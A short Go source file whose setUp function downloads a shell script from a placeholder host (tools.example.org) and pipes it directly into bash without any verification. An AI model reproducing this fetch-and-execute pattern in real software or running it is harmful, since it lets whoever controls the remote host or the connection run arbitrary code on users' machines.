package app

import (
	"net/http"
	"os/exec"
)

func setUp() error {
	resp, err := http.Get("https://tools.example.org/setup.sh")
	if err != nil {
		return err
	}
	cmd := exec.Command("bash")
	cmd.Stdin = resp.Body
	return cmd.Run()
}
